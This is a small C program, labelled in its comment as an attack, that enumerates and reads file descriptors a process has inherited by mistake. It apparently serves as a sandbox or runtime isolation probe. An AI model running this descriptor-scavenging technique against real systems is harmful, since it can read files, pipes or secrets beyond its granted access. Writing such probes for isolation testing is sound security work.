/* Attack: use a descriptor the runtime forgot to close. Lists /proc/self/fd (without the
 * listing's own fd) as "fd N -> target", probes fds 3..255 with fcntl in case /proc hides
 * some ("open fd N"), and reads whatever is open beyond stdio ("read fd N: <text>"). */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    DIR *d = opendir("/proc/self/fd");
    int skip = d ? dirfd(d) : -1;
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            int n = atoi(e->d_name);
            if (n == skip) continue;
            char p[64], t[512] = {0};
            snprintf(p, sizeof p, "/proc/self/fd/%d", n);
            if (readlink(p, t, sizeof t - 1) < 0) strcpy(t, "?");
            printf("fd %d -> %s\n", n, t);
        }
        closedir(d);
    } else {
        printf("no /proc/self/fd\n");
    }
    for (int fd = 3; fd < 256; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        printf("open fd %d\n", fd);
        char buf[128] = {0};
        fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK); /* a pipe must not block us */
        ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
        if (n <= 0) n = read(fd, buf, sizeof buf - 1);
        if (n > 0) printf("read fd %d: %s\n", fd, buf);
    }
    fflush(stdout);
    return 0;
}
